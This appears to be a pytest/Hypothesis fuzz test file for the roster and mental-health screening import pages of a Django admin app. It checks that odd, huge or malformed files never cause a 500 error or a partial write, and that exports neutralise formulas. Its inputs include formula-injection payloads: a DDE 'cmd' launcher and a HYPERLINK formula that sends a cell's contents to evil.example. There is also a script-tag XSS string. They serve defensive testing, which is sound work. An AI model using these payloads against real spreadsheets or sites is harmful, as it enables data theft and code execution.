"""Random import files through the real admin pages: odd encodings, formula cells, huge cells, missing, repeated or
reordered columns, empty files, wrong extensions. Whatever arrives, the answer is never a 500 and never a partial
write: a refused file or a check writes no roster or results row, and what is imported is exported formula-safe
(roster.spreadsheets.safe_cell).

The database persists across the examples of one test (pytest-django wraps the whole test function), so every
example counts rows before and after itself instead of assuming an empty database.
"""

import csv
import io
import os
import tempfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from cases.models import Case
from roster.models import ImportJob, ImportStatus, RoleAssignment, SchoolClass, Student, User
from roster.spreadsheets import FORMULA_PREFIXES
from screening.models import ScreeningResult
from tests.factories.screening import CampaignFactory
from tests.roster_files import STUDENT_HEADER, student_row

FUZZ = settings(
    max_examples=int(os.environ.get("FUZZ_EXAMPLES", "30")),  # more for a deeper run, e.g. FUZZ_EXAMPLES=500
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
ROSTER_UPLOAD = reverse("admin:roster_importjob_add")
RESULTS_IMPORT = reverse("admin:screening_screeningresult_import")
RESULTS_CONFIRM = reverse("admin:screening_screeningresult_process_import")
STUDENT_EXPORT = reverse("admin:roster_student_export")
RESULTS_HEADER = (
    ["学校代码", "学号"]
    + [f"PHQ9_{n}" for n in range(1, 10)]
    + [f"GAD7_{n}" for n in range(1, 8)]
    + [f"ASQ_{n}" for n in range(1, 6)]
)

# Rows a refused file or a check must leave alone; ImportJob rows are the upload's own record and may be added.
WATCHED = [
    Student, Student.history.model, Student.special_groups.through, SchoolClass, SchoolClass.history.model,
    User, RoleAssignment, ScreeningResult, ScreeningResult.history.model, Case,
]  # fmt: skip


def note_outcome(label: str) -> None:
    """How an example ended, for --hypothesis-show-statistics: the fuzzing should reach imports, not only refusals."""
    if currently_in_test_context():
        event(label)


def counts() -> dict[str, int]:
    return {model._meta.label: model.objects.count() for model in WATCHED}


# --- Cells, headers and files ---------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"  # must come back escaped wherever a page shows a cell

text = st.text(max_size=30)  # any code point but surrogates: control characters, NUL, BOM, RTL marks included
formula = st.builds(
    str.__add__,
    st.sampled_from(FORMULA_PREFIXES),
    st.sampled_from(['1+1', 'HYPERLINK("http://evil.example/?"&A1,"点我")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "李"])
    | text,
)  # fmt: skip
huge = st.builds(str.__mul__, st.sampled_from(["x", "王", "=", "\t", "1"]), st.integers(20_000, 100_000))
# NUL is what PostgreSQL refuses in text and in jsonb: a cell of its own, as plain random text rarely holds one.
cell = st.one_of(
    text, formula, huge, st.integers(-(10**20), 10**20).map(str), st.sampled_from(["", "\x00", "男\x00", SCRIPT])
)
# A name that clean_text keeps (≤ 50 characters once trimmed) and that begins like a formula.
formula_name = st.builds(
    str.__add__, st.sampled_from("=+-@"), st.sampled_from(["1+1", "SUM(A1)", "李", "HYPERLINK(1)"])
)


def encoded(table: list[list[str]], encoding: str) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(table)
    return buffer.getvalue().encode(encoding, errors="replace")


def workbook(table: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in table:
        # openpyxl refuses control characters; a string beginning with "=" becomes a real formula cell.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value for value in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@st.composite
def header_of(draw, columns: list[str]) -> list[str]:
    """The real columns, some dropped, some repeated, reordered, with strangers among them."""
    kept = list(columns)  # most often the whole header, so that rows get as far as being imported
    if draw(st.integers(0, 3)) == 0:
        kept = draw(st.lists(st.sampled_from(columns), unique=True, max_size=len(columns)))
    extra = draw(st.lists(st.sampled_from(columns) | cell, max_size=3))
    header = kept + extra
    return draw(st.permutations(header)) if draw(st.booleans()) else header


@st.composite
def packed(draw, table: list[list[str]]) -> tuple[bytes, str]:
    """The table as a file: CSV in some encoding, XLSX, random bytes or nothing, under a right or wrong name."""
    shape = draw(
        st.sampled_from(["xlsx", "utf-8", "xlsx", "utf-8-sig", "gbk", "xlsx", "utf-16", "latin-1", "bytes", "empty"])
    )
    if shape == "xlsx":
        data, natural = workbook(table), ".xlsx"
    elif shape == "bytes":
        data, natural = draw(st.binary(max_size=2000)), draw(st.sampled_from([".csv", ".xlsx", ".xls"]))
    elif shape == "empty":
        data, natural = b"", ".csv"
    else:
        data, natural = encoded(table, shape), ".csv"
    suffix = draw(st.sampled_from([natural] * 8 + [".csv", ".xlsx", ".xls", ".txt", ".pdf", ".CSV", ""]))
    return data, f"{draw(st.sampled_from(['roster', '名单 2026', 'a.b', '-=1+1']))}{suffix}"


@st.composite
def roster_files(draw) -> tuple[bytes, str]:
    header = draw(header_of(STUDENT_HEADER + ["状态"]))
    rows = []
    for _ in range(draw(st.integers(0, 4))):
        real = dict(
            zip(
                STUDENT_HEADER,
                student_row(
                    student_no=f"F{draw(st.integers(0, 10**9))}",
                    name=draw(formula_name | st.sampled_from(["李小红", "王 明", "李\x00红"])),
                    guardian=draw(formula_name | st.just("李大红")),
                ),
                strict=True,
            )
        )
        rows.append([draw(cell) if draw(st.integers(0, 9)) == 0 else real.get(name, "") for name in header])
    return draw(packed([header, *rows]))


# --- Checks shared by the examples ------------------------------------------------------------------------------


def assert_formula_safe(xlsx: bytes) -> list[list]:
    """Every cell of every sheet is a value, never a formula, and no text begins like one."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (c.coordinate, c.value)
                assert not (isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)), (c.coordinate, c.value)
            rows.append([c.value for c in row])
    return rows


def export_students(client) -> bytes:
    """The student export as a school admin asks for it: the export page's own form, every column, as XLSX."""
    form = client.get(STUDENT_EXPORT).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    data["format"] = "0"  # SafeXLSX, the first of ScopedExportMixin.formats
    if "resource" in form.fields:
        data["resource"] = "0"
    response = client.post(STUDENT_EXPORT, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


# --- Roster import --------------------------------------------------------------------------------------------


@pytest.fixture
def school_admin(client, world):
    client.force_login(world.school_admin_a1)
    return client


def _roster_example(client, data: bytes, filename: str, confirm: str) -> None:
    before, jobs = counts(), ImportJob.objects.count()
    response = client.post(ROSTER_UPLOAD, {"file": SimpleUploadedFile(filename, data)})
    assert response.status_code in (200, 302), response.status_code
    assert counts() == before  # an upload is a check: nothing of the roster is written
    if response.status_code == 200:  # refused by the upload form itself (size, zip bomb, damaged XLSX)
        note_outcome("roster: refused by the upload form")
        assert ImportJob.objects.count() == jobs and response.context["form"].errors
        return
    job = ImportJob.objects.latest("pk")
    assert job.status in (ImportStatus.CHECKED, ImportStatus.REFUSED)
    page = client.get(response.url)
    assert page.status_code == 200 and SCRIPT.encode() not in page.content
    errors = client.get(reverse("admin:roster_importjob_errors", args=[job.pk]))
    assert errors.status_code == 200
    assert_formula_safe(errors.content)
    if job.status == ImportStatus.REFUSED or not job.report.get("valid"):
        note_outcome(f"roster: {job.status}, {job.report.get('valid', 0)} valid rows")
        return
    done = client.post(response.url, {confirm: "1"})
    assert done.status_code == 302
    job.refresh_from_db()
    if not job.report.get("written"):
        assert counts() == before and job.status == ImportStatus.CHECKED  # blocked by a row with an error
        note_outcome("roster: confirmed, blocked by rows with errors")
        return
    assert job.status == ImportStatus.DONE
    note_outcome("roster: imported")
    exported = assert_formula_safe(export_students(client))
    shown = {value for row in exported for value in row if isinstance(value, str)}
    written = Student.history.filter(history_change_reason=f"roster import: {job.filename}"[:100]).values("id")
    for student in Student.objects.filter(pk__in=written):
        for value in (student.name, student.guardian_name):
            if value.startswith(FORMULA_PREFIXES):
                assert "'" + value in shown  # stored as typed, exported with the quote that keeps it text


@FUZZ
@given(file=roster_files(), confirm=st.sampled_from(["_confirm", "_valid_only"]))
@example(file=(b"", "roster.csv"), confirm="_confirm")
@example(file=(b"\xff\xfe\x00\x00garbage", "roster.xlsx"), confirm="_confirm")
@example(
    file=(workbook([STUDENT_HEADER, student_row(student_no="FX1", name="=1+1", guardian="@SUM(A1)")]), "r.xlsx"),
    confirm="_confirm",
)
@example(
    file=(encoded([STUDENT_HEADER, student_row(student_no="FX2", name="-李", guardian="+86")], "gbk"), "r.csv"),
    confirm="_valid_only",
)
@example(file=(encoded([STUDENT_HEADER, student_row(name="x" * 100_000)], "utf-16"), "r.csv"), confirm="_confirm")
# Found by this test, each a 500 (now fixed):
# - a grade or class of thousands of digits: int() refuses over 4,300 (roster.normalize._ARABIC_NUMBER);
# - a control character in a refused cell: the error report's XLSX could not hold it (roster.spreadsheets.safe_cell);
# - on PostgreSQL, a NUL in a name was stored as typed and the import failed (text columns refuse NUL), and a NUL in
#   a refused cell was copied into the job's report and the upload failed (jsonb refuses \u0000)
#   (roster.normalize._FOLD, ImportReport.add_error).
@example(file=(encoded([STUDENT_HEADER, student_row(grade="1" * 20_000)], "utf-8"), "r.csv"), confirm="_confirm")
@example(file=(encoded([STUDENT_HEADER, student_row(klass="9" * 5_000)], "utf-8"), "r.csv"), confirm="_confirm")
@example(file=(encoded([STUDENT_HEADER, student_row(gender="0\x1f")], "utf-8"), "r.csv"), confirm="_confirm")
@example(
    file=(encoded([STUDENT_HEADER, student_row(student_no="FN1", name="李\x00红")], "utf-8"), "r.csv"),
    confirm="_confirm",
)
@example(
    file=(encoded([STUDENT_HEADER, student_row(student_no="FN2", gender="\x00")], "utf-8"), "r.csv"), confirm="_confirm"
)
def test_no_roster_file_gives_a_500_or_a_partial_write(school_admin, world, file, confirm):
    data, filename = file
    _roster_example(school_admin, data, filename, confirm)


def test_nul_and_control_characters_in_cells_are_dropped_from_what_is_stored_reported_and_exported(school_admin, world):
    rows = [
        STUDENT_HEADER,
        student_row(student_no="FN3", name="李\x00红"),
        student_row(student_no="FN4", gender="男\x00\x01?"),
        student_row(student_no="FN5", name="\x01=王\x02明"),
    ]
    _roster_example(school_admin, encoded(rows, "utf-8"), "nul.csv", "_valid_only")
    job = ImportJob.objects.get(filename="nul.csv")
    assert job.status == ImportStatus.DONE
    assert [(e["line"], e["value"]) for e in job.report["errors"]] == [(3, "男\x01?")]  # as typed, but for the NUL
    assert Student.objects.get(student_no="FN3").name == "李红"
    assert Student.objects.get(student_no="FN5").name == "\x01=王\x02明"  # stored as typed (PostgreSQL takes it)
    errors = assert_formula_safe(client_get(school_admin, reverse("admin:roster_importjob_errors", args=[job.pk])))
    assert errors[1][2] == "男?"
    exported = assert_formula_safe(export_students(school_admin))
    assert "'=王明" in {value for row in exported for value in row}  # the formula quoted once its controls are gone


def client_get(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return response.content


# --- Screening results import ---------------------------------------------------------------------------------

answer = st.sampled_from([0, 1, 2, 3, "0", "3", "是", "否", "拒答", "", "4", "yes"]) | cell


@st.composite
def results_files(draw, students) -> tuple[bytes, str]:
    header = draw(header_of(RESULTS_HEADER))
    rows = []
    # Each student once, mostly in the importer's district: a repeated or out-of-scope row blocks the whole file.
    for student in draw(st.lists(st.sampled_from(students), unique=True, min_size=1, max_size=len(students))):
        asq = draw(st.lists(st.sampled_from(["否", "否", "否", "是"]), min_size=4, max_size=4))
        asq.append("" if "是" not in asq else draw(st.sampled_from(["是", "否"])))  # item 5 only after a yes
        real = dict(
            zip(
                RESULTS_HEADER,
                [student.school.code, student.student_no]
                + [draw(st.sampled_from(["0", "1", "2", "3"])) for _ in range(16)]
                + asq,
                strict=True,
            )
        )
        rows.append([draw(answer) if draw(st.integers(0, 19)) == 0 else real.get(name, "") for name in header])
    return draw(packed([header, *rows]))


@pytest.fixture
def results_importer(client, world):
    client.force_login(world.centre_district_a)
    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def _results_example(client, campaign, data: bytes, filename: str) -> None:
    before = counts()
    check = client.post(
        RESULTS_IMPORT, {"campaign": campaign.pk, "format": "0", "import_file": SimpleUploadedFile(filename, data)}
    )
    assert check.status_code == 200 and SCRIPT.encode() not in check.content, check.status_code
    assert counts() == before  # a check writes nothing
    confirm_form = check.context.get("confirm_form")
    if confirm_form is None:
        # Nothing to confirm: the upload (minors' answers) is not left in the temporary folder either.
        stored = getattr(check.context["form"].files.get("import_file"), "tmp_storage_name", None)
        assert not (stored and (Path(tempfile.gettempdir()) / Path(stored).name).exists()), stored
        result = check.context.get("result")
        note_outcome("results: refused" if result is None or result.report.refused else "results: rows with errors")
        return
    report = check.context["result"].report
    assert not report.refused and not report.error_lines
    done = client.post(RESULTS_CONFIRM, {name: confirm_form.initial[name] for name in confirm_form.fields})
    assert done.status_code == 302, done.status_code
    note_outcome("results: imported")
    after = counts()
    changed = report.new + report.updated
    results = ScreeningResult._meta.label
    assert after[results] == before[results] + report.new
    assert after[ScreeningResult.history.model._meta.label] == before[ScreeningResult.history.model._meta.label] + (
        changed
    )
    assert {k: v for k, v in after.items() if "ScreeningResult" not in k and "screeningresult" not in k} == {
        k: v for k, v in before.items() if "ScreeningResult" not in k and "screeningresult" not in k
    }


@pytest.fixture
def campaign(world):
    """One campaign for all the examples of a test: later files update what earlier ones imported."""
    return CampaignFactory(schools=[world.school_a1, world.school_a2, world.school_b1])


@FUZZ
@given(data=st.data())
def test_no_results_file_gives_a_500_or_a_partial_write(results_importer, world, campaign, data):
    students = [world.student_a1_3, world.student_a1_5, world.student_a2]
    if data.draw(st.integers(0, 4)) == 0:
        students.append(world.student_b1)  # district B: outside the district centre's scope
    file_data, filename = data.draw(results_files(students))
    _results_example(results_importer, campaign, file_data, filename)


def test_formula_and_huge_cells_in_a_results_file_are_reported_not_stored(results_importer, world):
    campaign = CampaignFactory(schools=[world.school_a1])
    student = world.student_a1_3
    rows = [
        RESULTS_HEADER,
        [student.school.code, student.student_no, "=1+1", *["0"] * 15, "否", "否", "否", "否", ""],
        [student.school.code, "@" + "9" * 100_000, *["0"] * 16, "否", "否", "否", "否", ""],
    ]
    for data, filename in ((encoded(rows, "utf-8"), "r.csv"), (workbook(rows), "r.xlsx")):
        _results_example(results_importer, campaign, data, filename)
    assert not ScreeningResult.objects.exists()


def test_an_item_column_numbered_with_thousands_of_digits_is_ignored_not_a_500(results_importer, world):
    """Regression: "PHQ9_" and 5,000 digits went to int(), which refuses over 4,300 digits (a 500)."""
    campaign = CampaignFactory(schools=[world.school_a1])
    student = world.student_a1_3
    rows = [
        [*RESULTS_HEADER[:-1], "ASQ_" + "1" * 5_000],
        [student.school.code, student.student_no, *["0"] * 16, "否", "否", "否", "否", ""],
    ]
    _results_example(results_importer, campaign, encoded(rows, "utf-8"), "r.csv")
    assert ScreeningResult.objects.count() == 1  # ASQ_5 is asked only after a yes: not a missing column


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"PK\x03\x04garbage", "r.xlsx"),
        (b"\xff\xfe\xfa\x00\x81", "r.csv"),
        (",".join(RESULTS_HEADER).encode(), "r.csv"),
    ],
)
def test_a_results_file_refused_unread_is_not_left_in_the_temporary_folder(
    results_importer, world, campaign, data, filename
):
    """Regression (found by the results fuzz): a file the reader refused, or one without rows, was stored for a
    confirmation that could never come and stayed on disk until the daily sweep."""
    _results_example(results_importer, campaign, data, filename)


def test_a_clean_results_file_is_checked_then_imported(results_importer, world, campaign):
    rows = [RESULTS_HEADER] + [
        [s.school.code, s.student_no, *["1"] * 16, "否", "否", "否", "否", ""]
        for s in (world.student_a1_3, world.student_a2)
    ]
    _results_example(results_importer, campaign, workbook(rows), "r.xlsx")
    assert ScreeningResult.objects.filter(campaign=campaign).count() == 2
